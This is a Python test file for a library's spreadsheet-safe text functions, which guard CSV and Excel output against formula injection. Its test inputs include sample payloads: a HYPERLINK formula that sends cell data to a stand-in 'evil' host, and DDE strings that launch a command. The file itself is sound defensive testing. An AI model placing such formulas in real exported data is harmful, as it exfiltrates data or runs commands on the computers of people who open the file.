import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from hostile import REFUSED, SHOWN

from tilstand.safe_text import (
    csv_lines,
    csv_of,
    one_line,
    spreadsheet_safe,
    spreadsheet_safe_frame,
)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "@SUM(A1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\ufeff=1+1",
        "\u200b@SUM(A1)",
        "\x00=1",
        "\uff1d1+1",
        "-1-1",
        "--1",
        "-A1",
        "==1",
        "=",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(text):
    assert spreadsheet_safe(text)[0] == "'"


@pytest.mark.parametrize(
    "text",
    ["-1", "-1,5", "-0.25", "-1 234,5", "-3 %", "-", "", "Åsen", "5-10", "1=1", "a@b.no", "*"],
)
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize("text", ["A;=1+1", "A\t@SUM(A1)", "A\n=1", "A;-B1", "A; +1"])
def test_a_formula_after_another_countrys_delimiter_is_text_too(text):
    got = spreadsheet_safe(text)
    assert not any(
        part.lstrip()[:1] in ("=", "+", "-", "@") for part in got.replace("\t", ";").split(";")
    )


def test_a_frame_keeps_its_numbers_and_gaps():
    frame = pd.DataFrame({"=a": ["=1", None, "-2"], "n": [-1, 2, 3], "x": [-0.5, None, 1.0]})
    got = spreadsheet_safe_frame(frame)
    assert list(got.columns) == ["'=a", "n", "x"]
    assert got["'=a"].fillna("").tolist() == ["'=1", "", "-2"]
    pd.testing.assert_frame_equal(got[["n", "x"]], frame[["n", "x"]])
    assert frame.columns[0] == "=a"


def test_categories_of_a_categorical_column_are_made_safe():
    frame = pd.DataFrame({"a": pd.Categorical(["=1", "b"])})
    assert spreadsheet_safe_frame(frame)["a"].tolist() == ["'=1", "b"]


def test_a_message_stays_on_one_line():
    assert one_line("a\nb\x00c") == "a\ufffdb\ufffdc"


LIBRARY = Path(__file__).parents[1] / "lib" / "tilstand"
# What is told of a table to find out whether it changed, and a table of numbers for R.
NOT_FILES = {
    "pupils/door.py": 1,
    "pupils/protection/once.py": 1,
    "pupils/protection/protect.py": 1,
    "value_added/r_script.py": 1,
}
WRITES = re.compile(r"\bto_csv\(|\bto_excel\(|\b(?:csv\.)?writer\(|DictWriter\(|\.append_row")


def test_one_place_writes_csv():
    got = {}
    for path in sorted(LIBRARY.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        text = text.replace("spreadsheet_safe_frame(simulated.pupils).to_excel(", "")
        found = WRITES.findall(text)
        if found and path.name != "safe_text.py":
            got[path.relative_to(LIBRARY).as_posix()] = len(found)

    assert got == NOT_FILES


@pytest.mark.parametrize("name", [*SHOWN, *REFUSED])
def test_no_cell_of_a_written_table_is_a_formula(name):
    frame = pd.DataFrame({name: [name], "n": [1]})
    written = csv_of(frame) + csv_lines([[name, 2]])
    rows = list(csv.reader(io.StringIO(written)))

    assert [row[1] for row in rows] == ["n", "1", "2"]
    assert not any(re.match(r"\s*[=+\-@]", cell) for row in rows for cell in row)
